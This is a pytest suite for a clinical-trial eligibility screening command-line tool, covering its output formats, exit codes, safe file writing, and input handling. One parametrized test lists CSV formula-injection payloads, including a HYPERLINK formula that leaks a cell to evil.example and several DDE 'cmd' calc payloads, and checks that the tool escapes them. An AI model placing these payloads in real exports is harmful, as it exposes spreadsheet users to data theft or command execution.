"""``eligibility screen`` with many inputs, ``funnel``, and the single-screen behaviour kept."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import HCC, HCC_PATIENTS, ICC, ICC_PATIENTS, PATIENTS, ROOT, RULES
from eligibility.batch_report import CSV_COLUMNS
from eligibility.cli import main

Cap = pytest.CaptureFixture[str]


def run(capsys: Cap, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_single_screen_is_unchanged_apart_from_the_audit_digest(capsys: Cap) -> None:
    code, out, _ = run(capsys, "screen", str(HCC), str(HCC_PATIENTS[0]), "--format", "json")
    data = json.loads(out)
    assert code == 0
    assert list(data)[:4] == ["trial", "patient", "as_of", "verdict"]
    assert data["rules_sha256"] == hashlib.sha256(HCC.read_bytes()).hexdigest()
    assert {"id", "section", "text", "status", "reason", "missing"} <= set(data["criteria"][0])
    code, out, _ = run(capsys, "screen", str(HCC), str(HCC_PATIENTS[1]))
    assert code == 1 and "INELIGIBLE" in out
    code, out, err = run(capsys, "screen", str(HCC), str(PATIENTS / "nope.json"))
    assert (code, out) == (2, "") and err.startswith("error: ") and "file not found" in err
    code, out, err = run(capsys, "screen", str(PATIENTS / "nope.yaml"), str(HCC_PATIENTS[0]))
    assert (code, out) == (2, "") and "nope.yaml: file not found" in err


def test_csv_has_a_row_per_input_and_the_documented_columns(
    capsys: Cap, cohort_jsonl: Path
) -> None:
    code, out, err = run(capsys, "screen", str(ICC), str(cohort_jsonl), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 7
    assert code == 2
    bad = [r for r in rows if r["verdict"] == "error"]
    assert len(bad) == 2 and "line 3" in bad[0]["error"] and "$.ecog" in bad[0]["error"]
    assert "skipped:" in err and "line 4" in err
    p05 = next(r for r in rows if r["patient"] == "P05-alt-4x-uln")
    assert (p05["verdict"], p05["fail"], p05["failed"]) == ("ineligible", "1", "I6.4b")
    assert p05["rules_sha256"] == hashlib.sha256(ICC.read_bytes()).hexdigest()


def test_jsonl_lines_have_the_single_screen_fields(capsys: Cap, cohort_jsonl: Path) -> None:
    code, out, _ = run(
        capsys, "screen", str(ICC), str(cohort_jsonl), "--format", "jsonl", "--as-of", "2024-03-01"
    )
    lines = [json.loads(x) for x in out.splitlines()]
    assert len(lines) == 7 and code == 2
    _, out, _ = run(
        capsys,
        "screen",
        str(ICC),
        str(ICC_PATIENTS[-1]),
        "--format",
        "json",
        "--as-of",
        "2024-03-01",
    )
    single = json.loads(out)
    good = [x for x in lines if x["verdict"] != "error"]
    assert set(single) <= set(good[-1])
    assert {k: v for k, v in good[-1].items() if k != "source"} == single


def test_json_list_and_directories(capsys: Cap) -> None:
    code, out, _ = run(capsys, "screen", str(RULES), str(PATIENTS), "--format", "json")
    data = json.loads(out)
    assert len(data) == 20 and code == 1
    assert {d["trial"] for d in data} == {"NCT03859128", "NCT04669496"}


def test_exit_codes_by_verdict_when_nothing_was_skipped(capsys: Cap) -> None:
    eligible = [str(HCC_PATIENTS[0])]
    assert run(capsys, "screen", str(HCC), *eligible, *eligible, "--format", "csv")[0] == 0
    undecided = str(PATIENTS / "p09_indeterminate_missing_labs.json")
    assert (
        run(capsys, "screen", str(ICC), undecided, str(ICC_PATIENTS[-1]), "--format", "csv")[0] == 3
    )
    assert run(capsys, "screen", str(ICC), *map(str, ICC_PATIENTS), "--format", "csv")[0] == 1


def test_bad_rules_file_is_reported_and_skipped(capsys: Cap, tmp_path: Path) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text("schema_version: 1\ncriteria: nope\n")
    code, out, err = run(
        capsys, "screen", str(broken), str(HCC), str(HCC_PATIENTS[0]), "--format", "csv"
    )
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 2 and str(broken) in err
    assert [r["verdict"] for r in rows] == ["error", "eligible"]


def test_table_output_has_one_row_per_screening(capsys: Cap, cohort_jsonl: Path) -> None:
    code, out, _ = run(capsys, "screen", str(ICC), str(cohort_jsonl))
    assert code == 2
    assert "P10-eligible-icc" in out and "ERROR" in out
    assert "5 screening(s): 1 eligible, 3 ineligible, 1 indeterminate; 2 input(s)" in out


def test_output_file_and_no_inputs(capsys: Cap, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    code, out, _ = run(
        capsys, "screen", str(HCC), *map(str, HCC_PATIENTS), "--format", "csv", "-o", str(target)
    )
    assert code == 1 and out == ""
    assert target.read_text().count("\n") == 6
    code, _, err = run(capsys, "screen", str(HCC_PATIENTS[0]), "--format", "csv")
    assert code == 2 and "no rules file" in err


def test_funnel_json(capsys: Cap) -> None:
    code, out, _ = run(capsys, "funnel", str(ICC), *map(str, ICC_PATIENTS), "--format", "json")
    data = json.loads(out)
    assert code == 0
    (funnel,) = data["funnels"]
    assert funnel["screened"] == 5 and funnel["criteria"][-1]["remaining"] == 2
    code, out, _ = run(capsys, "funnel", str(ICC), *map(str, ICC_PATIENTS))
    assert "Remaining" in out and "I6.4b" in out


# --- issue 11: a run never loses or corrupts data --------------------------------------------

COHORT = ROOT / "examples" / "cohort.jsonl"
FORMATS = ["csv", "jsonl", "json", "html", "table"]


def _complete(fmt: str, out: str) -> bool:
    """The report was written to its end (nothing cut off by a crash)."""
    last = out.rstrip().splitlines()[-1]
    if fmt in ("json", "jsonl"):
        return bool(json.loads(out if fmt == "json" else last))
    ends = {"csv": ",0.1.0", "html": "</html>", "table": "input(s) could not be screened"}
    return last.endswith(ends[fmt])


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_exception_on_one_record_is_its_error_row(
    capsys: Cap, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    """A bug on one profile (any exception while screening it) is that profile's error row,
    named on stderr; the profiles after it are screened, the report is whole, exit 4."""
    import eligibility.batch

    real = eligibility.batch.build_facts

    def flaky(item, *args):  # type: ignore[no-untyped-def]
        if item.id == "boom":
            raise OverflowError("date value out of range")
        return real(item, *args)

    monkeypatch.setattr(eligibility.batch, "build_facts", flaky)
    lines = COHORT.read_text(encoding="utf-8").splitlines()
    cohort = tmp_path / "c.jsonl"
    cohort.write_text("\n".join([*lines[:5], '{"id": "boom"}', *lines[5:]]) + "\n", "utf-8")
    code, out, err = run(capsys, "screen", str(ICC), str(cohort), "--format", fmt)
    assert code == 4
    assert f"skipped: {cohort}#6: internal error: OverflowError: date value out of range" in err
    assert "P11-eligible-icc-synonyms" in out  # the last profile was screened
    assert _complete(fmt, out), out[-200:]
    assert err.count("internal error") == 1 and "Traceback" not in err
    monkeypatch.setenv("ELIGIBILITY_DEBUG", "1")
    with pytest.raises(OverflowError):
        main(["screen", str(ICC), str(cohort), "--format", "csv"])


@pytest.mark.parametrize("fmt", ["html", "jsonl"])
def test_year_one_screening_date_does_not_end_the_run(
    capsys: Cap, tmp_path: Path, fmt: str
) -> None:
    """The reported case: 11 profiles, one screened as of 0001-03-01 (a window reaching before
    year 1 overflowed). Refused at load time or failed on: either way its own row, the others
    screened and the worksheet complete."""
    lines = COHORT.read_text(encoding="utf-8").splitlines()
    old = {"id": "old", "screening_date": "0001-03-01", "conditions": [{"name": "tuberculosis"}]}
    cohort = tmp_path / "c.jsonl"
    cohort.write_text("\n".join([*lines[:5], json.dumps(old), *lines[5:10]]) + "\n", "utf-8")
    code, out, err = run(capsys, "screen", str(RULES), str(cohort), "--format", fmt)
    named = f"{cohort}#6" in err or f"{cohort}: line 6: $.screening_date" in err
    assert code in (2, 4) and named and "Traceback" not in err
    assert all(f"P{n:02d}-" in out for n in range(1, 11))
    if fmt == "html":
        assert out.rstrip().endswith("</html>")
    else:
        rows = [json.loads(line) for line in out.splitlines()]
        assert sum(r["verdict"] != "error" and r["patient"] != "old" for r in rows) == 20


def _inputs_as_outputs(tmp_path: Path) -> list[tuple[str, list[str], Path]]:
    """(name, argv, the input that -o names) for each command and way of naming a file."""
    cohort = tmp_path / "cohort.jsonl"
    cohort.write_bytes(COHORT.read_bytes())
    folder = tmp_path / "patients"
    folder.mkdir()
    inside = folder / "p.json"
    inside.write_bytes(HCC_PATIENTS[0].read_bytes())
    (tmp_path / "hard.csv").hardlink_to(cohort)
    (tmp_path / "soft.csv").symlink_to(cohort)
    study = tmp_path / "study.txt"
    study.write_bytes((ROOT / "seeds" / "NCT04669496_registry_page.txt").read_bytes())
    screen = ["screen", str(ICC), str(cohort), "--format", "csv", "-o"]
    return [
        ("screen, same path", [*screen, str(cohort)], cohort),
        ("screen, another spelling", [*screen, str(tmp_path / "." / "cohort.jsonl")], cohort),
        ("screen, hard link", [*screen, str(tmp_path / "hard.csv")], cohort),
        ("screen, symbolic link", [*screen, str(tmp_path / "soft.csv")], cohort),
        ("screen, the rules file", [*screen, str(ICC)], ICC),
        (
            "screen, a file in an input folder",
            ["screen", str(HCC), str(folder), "-o", str(inside)],
            inside,
        ),
        ("funnel", ["funnel", str(ICC), str(cohort), "-o", str(cohort)], cohort),
        ("parse", ["parse", str(study), "-o", str(study)], study),
        ("coverage", ["coverage", str(study), "-o", str(study)], study),
    ]


def test_output_naming_an_input_is_refused(capsys: Cap, tmp_path: Path) -> None:
    """``-o`` naming an input (by any path, link or inode) is refused before anything is opened
    for writing: the input is left byte for byte as it was."""
    for name, argv, victim in _inputs_as_outputs(tmp_path):
        before = victim.read_bytes()
        code, out, err = run(capsys, *argv)
        assert (code, out) == (2, ""), name
        assert "is also an input" in err and err.count("\n") == 1, (name, err)
        assert victim.read_bytes() == before, name


def test_output_is_replaced_whole_or_kept(
    capsys: Cap, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Reports go to a temporary file beside the target, renamed over it at the end: a run that
    fails half-way keeps the old report and leaves no temporary file; one that succeeds
    replaces it whole and keeps its permissions."""
    import eligibility.batch_report

    target = tmp_path / "report.csv"
    target.write_text("old report\n")
    target.chmod(0o640)
    real = eligibility.batch_report.write_csv

    def crashing(rows, out):  # type: ignore[no-untyped-def]
        for n, row in enumerate(real(rows, out)):
            if n == 3:
                raise RuntimeError("disk gremlin")
            yield row

    monkeypatch.setattr(eligibility.batch_report, "write_csv", crashing)
    argv = ["screen", str(RULES), str(COHORT), "--format", "csv", "-o", str(target)]
    code, _, err = run(capsys, *argv)
    assert code == 4 and "RuntimeError: disk gremlin" in err
    assert target.read_text() == "old report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]
    monkeypatch.setattr(eligibility.batch_report, "write_csv", real)
    assert run(capsys, *argv)[0] == 1
    assert len(target.read_text().splitlines()) == 23 and (target.stat().st_mode & 0o777) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]
    for fmt in ("html", "json"):  # the single screening writes the same way
        single = ["screen", str(HCC), str(HCC_PATIENTS[0]), "--format", fmt, "-o", str(target)]
        assert run(capsys, *single)[0] == 0 and target.read_text().rstrip()[-1] in ">}"
    link = tmp_path / "link.html"
    link.symlink_to(target.name)
    assert run(capsys, *single[:-1], str(link))[0] == 0
    assert link.is_symlink() and json.loads(target.read_text())["verdict"] == "eligible"
    code, _, err = run(capsys, *single[:-1], str(tmp_path / "no" / "such" / "folder.html"))
    assert code == 2 and "cannot write: No such file or directory" in err


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this system")
@pytest.mark.parametrize(
    "argv",
    [
        ["screen", str(HCC), str(HCC_PATIENTS[0])],
        ["screen", str(HCC), str(HCC_PATIENTS[0]), "--format", "json"],
        ["screen", str(RULES), str(COHORT), "--format", "csv"],
        ["screen", str(RULES), str(COHORT), "--format", "html"],
        ["funnel", str(RULES), str(COHORT)],
    ],
    ids=["single table", "single json", "cohort csv", "cohort html", "funnel"],
)
def test_full_disk_is_an_input_error(capsys: Cap, argv: list[str]) -> None:
    code, _, err = run(capsys, *argv, "-o", "/dev/full")
    assert code == 2
    assert err.splitlines()[-1] == "error: /dev/full: cannot write: No space left on device"
    assert "internal error" not in err


def test_closed_pipe_ends_quietly_and_not_as_success(tmp_path: Path) -> None:
    """``eligibility screen … | head -1``: no traceback, no BrokenPipeError message, and exit
    141 (what a shell reports for SIGPIPE), not a verdict: the rest was never written."""
    import subprocess
    import sys

    big = tmp_path / "big.jsonl"
    big.write_text(COHORT.read_text(encoding="utf-8") * 40, encoding="utf-8")  # > a pipe buffer
    cmd = [sys.executable, "-m", "eligibility", "screen", str(RULES), str(big), "--format", "jsonl"]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    first = proc.stdout.readline()
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert proc.wait() == 141
    assert json.loads(first)["patient"] == "P01-eligible-hcc"
    assert "Traceback" not in err and "BrokenPipe" not in err and "Exception ignored" not in err


def test_standard_input_and_pipes_are_read_once(
    capsys: Cap, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``-`` is standard input (JSONL); a named pipe is read once, never counted for the
    progress bar (which would consume it); records are counted only when a bar is drawn."""
    import os
    import subprocess
    import sys
    import threading

    import eligibility.cli

    data = COHORT.read_bytes()
    for name in ("-", "/dev/stdin"):
        proc = subprocess.run(
            [sys.executable, "-m", "eligibility", "screen", str(ICC), name, "--format", "csv"],
            input=data,
            capture_output=True,
            check=False,
        )
        rows = list(csv.DictReader(io.StringIO(proc.stdout.decode())))
        assert proc.returncode == 1 and len(rows) == 11, proc.stderr
        assert rows[-1]["source"] == ("<stdin>#11" if name == "-" else "/dev/stdin#11")

    fifo = tmp_path / "fifo.jsonl"
    os.mkfifo(fifo)
    done = threading.Event()

    def writer() -> None:
        with open(fifo, "wb") as fh:
            fh.write(data)
        while not done.is_set():  # a second reader (the bug) gets an empty stream, not a hang
            try:
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                done.wait(0.01)

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)  # a bar is drawn
    try:
        code, out, _ = run(capsys, "screen", str(ICC), str(fifo), "--format", "csv")
    finally:
        done.set()
        thread.join()
    assert code == 1 and len(out.splitlines()) == 12
    assert (
        eligibility.cli._count_records([fifo]) is None
        and eligibility.cli._count_records([COHORT]) == 11
    )

    counted: list[object] = []
    monkeypatch.setattr(eligibility.cli, "_count_records", lambda paths: counted.append(paths) or 1)
    run(capsys, "screen", str(ICC), str(COHORT), "--format", "csv")
    assert len(counted) == 1
    run(capsys, "screen", str(ICC), str(COHORT), "--format", "csv", "--no-progress")
    monkeypatch.setattr(sys.stderr, "isatty", lambda: False, raising=False)
    run(capsys, "screen", str(ICC), str(COHORT), "--format", "csv")
    assert len(counted) == 1  # no bar, no counting pass


def test_endless_devices_are_bounded(capsys: Cap, tmp_path: Path) -> None:
    """/dev/zero is refused after a bounded read: as JSONL (no line end within 64 MiB) and as
    a .json profile (the 16 MiB limit)."""
    zero = tmp_path / "zero.json"
    zero.symlink_to("/dev/zero")
    code, _, err = run(capsys, "screen", str(ICC), "/dev/zero", "--format", "csv")
    assert (
        code == 2
        and "line 1: line is longer than the 1 MiB limit and has no end within 64 MiB" in err
    )
    code, _, err = run(capsys, "screen", str(ICC), str(zero), "--format", "csv")
    assert code == 2 and "file is larger than the 16 MiB limit" in err


def test_directory_entries_that_are_not_files_are_named(capsys: Cap, tmp_path: Path) -> None:
    """Dangling links, link loops, FIFOs and sub-folders in a profile directory: one
    ``skipped:`` line each on stderr; the files are screened and the exit code is theirs."""
    import os

    folder = tmp_path / "patients"
    (folder / "sub").mkdir(parents=True)
    (folder / "p.json").write_bytes(HCC_PATIENTS[0].read_bytes())
    (folder / "dangling.json").symlink_to("nowhere.json")
    (folder / "loop1.json").symlink_to("loop2.json")
    (folder / "loop2.json").symlink_to("loop1.json")
    os.mkfifo(folder / "pipe.jsonl")
    code, out, err = run(capsys, "screen", str(HCC), str(folder), "--format", "csv")
    assert code == 0 and len(out.splitlines()) == 2
    assert err.splitlines()[:5] == [
        f"skipped: {folder / 'dangling.json'}: a symbolic link to nothing (nowhere.json)",
        f"skipped: {folder / 'loop1.json'}: a symbolic link loop",
        f"skipped: {folder / 'loop2.json'}: a symbolic link loop",
        f"skipped: {folder / 'pipe.jsonl'}: a named pipe (FIFO); name it on the command line to read it",
        f"skipped: {folder / 'sub'}: a sub-folder (folders are not read recursively)",
    ]


def test_repeated_files_and_patient_ids_are_warned_about(capsys: Cap, tmp_path: Path) -> None:
    """The same file twice (by any path) is read once, so a funnel counts each patient once;
    a patient id seen before in the run is warned about."""
    copy = tmp_path / "copy.json"
    copy.write_bytes(ICC_PATIENTS[0].read_bytes())
    first = str(ICC_PATIENTS[0])
    again = str(ICC_PATIENTS[0].parent / ".." / "patients" / ICC_PATIENTS[0].name)
    code, out, err = run(capsys, "funnel", str(ICC), first, first, again, "--format", "json")
    assert code == 0 and json.loads(out)["funnels"][0]["screened"] == 1
    assert err.splitlines() == [
        f"warning: {first}: given twice; read once",
        f"warning: {again}: same file as {first}; read once",
    ]
    code, out, err = run(capsys, "screen", str(ICC), first, str(copy), "--format", "csv")
    assert len(out.splitlines()) == 3  # a different file with the same id is still screened
    assert f"warning: {copy}: patient id 'P05-alt-4x-uln' was already read in this run" in err


CSV_FORMULAS = [
    ("=HYPERLINK", '=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+cmd", "+cmd|' /C calc'!A0"),
    ("@SUM", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-formula", "-2+3+cmd|' /C calc'!A0"),
    ("tab", "\tx"),
    ("carriage return", "\rx"),
]


@pytest.mark.parametrize("name,pid", CSV_FORMULAS, ids=[c[0] for c in CSV_FORMULAS])
def test_csv_cells_a_spreadsheet_would_run_are_escaped(
    capsys: Cap, tmp_path: Path, name: str, pid: str
) -> None:
    """OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading ``'``; the
    JSON output keeps the id as it is."""
    cohort = tmp_path / "c.jsonl"
    cohort.write_text(json.dumps({"id": pid}) + "\n" + json.dumps({"id": "plain"}) + "\n")
    _, out, _ = run(capsys, "screen", str(HCC), str(cohort), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["patient"] for r in rows] == ["'" + pid, "plain"]
    _, out, _ = run(capsys, "screen", str(HCC), str(cohort), "--format", "jsonl")
    assert json.loads(out.splitlines()[0])["patient"] == pid


@pytest.mark.parametrize("fmt", ["table", "json", "html", "csv"])
def test_json_list_of_profiles_is_a_cohort_in_every_format(
    capsys: Cap, tmp_path: Path, fmt: str
) -> None:
    """``screen RULES.yaml cohort.json`` with a JSON list: a cohort run, whatever the format."""
    cohort = tmp_path / "cohort.json"
    cohort.write_text(json.dumps([json.loads(p.read_text()) for p in HCC_PATIENTS[:2]]))
    code, out, err = run(capsys, "screen", str(HCC), str(cohort), "--format", fmt)
    assert code == 1 and "error" not in err, err
    assert "P01-eligible-hcc" in out and "P02-age-77" in out
    if fmt == "json":
        assert [r["source"] for r in json.loads(out)] == [f"{cohort}#1", f"{cohort}#2"]


def test_readme_cohort_commands_run_as_printed(tmp_path: Path) -> None:
    """Every command of the README's bash blocks that use examples/cohort.jsonl runs as printed
    (from a copy of the tree's rules/ and examples/), screening everything it names."""
    import re
    import subprocess
    import sys

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    blocks = [
        b for b in re.findall(r"```bash\n(.*?)```", readme, re.S) if "examples/cohort.jsonl" in b
    ]
    commands = [c for b in blocks for c in b.splitlines() if c.startswith("eligibility ")]
    assert len(commands) >= 4, commands
    for name in ("rules", "examples"):
        (tmp_path / name).symlink_to(ROOT / name)
    shim = f'eligibility() {{ "{sys.executable}" -m eligibility "$@"; }}\n'
    for command in commands:
        proc = subprocess.run(
            ["bash", "-c", shim + command],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
        )
        assert proc.returncode in (0, 1, 3), (command, proc.stderr)
        assert "error" not in proc.stderr and "skipped" not in proc.stderr, (command, proc.stderr)
        target = re.search(r"-o (\S+)", command)
        assert proc.stdout or (target and (tmp_path / target.group(1)).stat().st_size), command


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_stray_reviews_are_warned_once_per_record(capsys: Cap, tmp_path: Path, fmt: str) -> None:
    """A review of another trial screened in the same run is not a stray; one of a trial not
    screened is, and is named once per record (not once per trial), on both paths."""
    profile = json.loads(HCC_PATIENTS[0].read_text())
    profile["reviews"] = [
        {"trial": "NCT04669496", "criterion": "E1", "status": "pass"},
        {"trial": "NCT00000000", "criterion": "I1", "status": "pass"},
    ]
    cohort = tmp_path / "c.jsonl"
    cohort.write_text(json.dumps(profile) + "\n" + json.dumps({**profile, "id": "two"}) + "\n")
    code, out, err = run(capsys, "screen", str(HCC), str(ICC), str(cohort), "--format", fmt)
    assert code in (0, 1, 3)  # everything screened: a warning is not a skipped input
    stray = "$.reviews[1]: trial 'NCT00000000' is not among the rules screened; review not used"
    assert [line for line in err.splitlines() if line.startswith("warning: ")] == [
        f"warning: {cohort}#1: {stray}",
        f"warning: {cohort}#2: {stray}",
    ]
    if fmt == "jsonl":
        assert all(json.loads(line)["warnings"] == [stray] for line in out.splitlines())


_CELL = st.text(
    alphabet=st.sampled_from(list("ab ,\"\r\n\x00\x0b\x0c\u2028;=+-@\t'é")) | st.characters()
)


@settings(max_examples=300, deadline=None)
@given(
    patient=_CELL,
    source=_CELL,
    error=st.none() | _CELL,
    failed=st.lists(_CELL, max_size=3),
    found=st.lists(st.sampled_from(["pass", "fail", "unknown", "review"]), max_size=40),
)
def test_csv_lines_are_the_csv_writers(
    patient: str, source: str, error: str | None, failed: list[str], found: list[str]
) -> None:
    """``write_csv`` joins plain cells itself and counts statuses in their joined text: its
    lines are still the ``csv`` writer's, with each status counted."""
    from datetime import date

    from eligibility.batch import Row
    from eligibility.batch_report import csv_record, write_csv

    row = Row(
        source, "NCT1", patient, date(2024, 3, 1), "error" if error else "ineligible",
        tuple(found), tuple(failed), "ab12", error,
    )  # fmt: skip
    out = io.StringIO()
    list(write_csv([row, row], out))
    ref = io.StringIO()
    writer = csv.writer(ref, lineterminator="\r\n")
    lines = []
    for cells in (list(CSV_COLUMNS), csv_record(row), csv_record(row)):
        ref.seek(0)
        ref.truncate()
        writer.writerow(cells)
        lines.append(ref.getvalue()[:-2] + "\n")
    assert out.getvalue() == "".join(lines)
    if error is None:
        counts = [str(found.count(s)) for s in ("pass", "fail", "unknown", "review")]
        assert csv_record(row)[4:8] == counts
